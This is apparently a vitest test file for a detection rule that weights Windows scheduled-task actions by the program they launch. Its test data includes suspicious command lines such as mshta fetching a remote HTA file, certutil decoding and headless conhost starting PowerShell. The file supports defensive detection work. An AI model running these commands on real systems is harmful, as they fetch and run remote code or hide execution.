import { expect, test } from 'vitest'
import type { Chain, RunProcess } from '../../model/chain.ts'
import { subjectOf } from '../subject.ts'
import { actionProgram } from './action-program.ts'

/** The weight of a task that starts `action` and of whose run these processes were seen. */
function bitsOf(action: string | null, ...processes: Partial<RunProcess>[]): number {
  const chain = {
    host: 'ws5',
    change: null,
    definition: null,
    statedAction: action,
    statedRunAs: null,
    runs: [{ processes }],
    circumstances: [],
  } as unknown as Chain
  return actionProgram.weigh(subjectOf(chain, { hostsWithAction: 1, hosts: 1 }))?.bits ?? 0
}

test.each([
  ['mshta.exe http://192.0.2.7/a.hta'],
  ['MSHTA.EXE x.hta'],
  ['mshta x.hta'],
  ['"C:\\Windows\\System32\\mshta.exe" x.hta'],
  ['C:/Windows/System32/mshta.exe x.hta'],
  ['%SystemRoot%\\System32\\mshta.exe x.hta'],
])('mshta as an action stands out however it is written: %s', (action) => {
  expect(bitsOf(action)).toBe(4.5)
})

test('mshta weighs more than a shell, and a shell more than rundll32, which Windows itself schedules', () => {
  expect(bitsOf('mshta.exe x.hta')).toBeGreaterThan(bitsOf('cmd.exe /c x'))
  expect(bitsOf('cmd.exe /c x')).toBeGreaterThan(bitsOf('rundll32.exe x.dll,Entry'))
})

test('a shell is one also when only a variable names it', () => {
  expect(bitsOf('%COMSPEC% /c dir')).toBe(2)
})

test('conhost --headless hides the window of whatever it starts', () => {
  expect(bitsOf('conhost.exe --headless powershell.exe -File a.ps1')).toBe(3.5)
})

test('certutil counts with and without its extension', () => {
  expect(bitsOf('certutil -decode a b')).toBe(bitsOf('certutil.exe -decode a b'))
})

test('where the definition is not known, the process that the scheduler started tells', () => {
  expect(bitsOf(null, { depth: 0, image: 'C:\\Windows\\System32\\regsvr32.exe' })).toBe(3.5)
})

test('a child that is a shell is not what the task starts', () => {
  expect(bitsOf('C:\\Program Files\\App\\app.exe', { depth: 1, image: 'C:\\Windows\\System32\\cmd.exe' })).toBe(0)
})

test.each([
  ['"C:\\Program Files\\Vendor\\updater.exe" /ua /installsource scheduler'],
  ['C:\\Windows\\System32\\defrag.exe -c -h -k -g -$'],
  ['C:\\Tools\\mycmd.exe'],
  ['constructor'],
  ['__proto__'],
  [''],
])('an ordinary program says nothing: %s', (action) => {
  expect(bitsOf(action)).toBe(0)
})
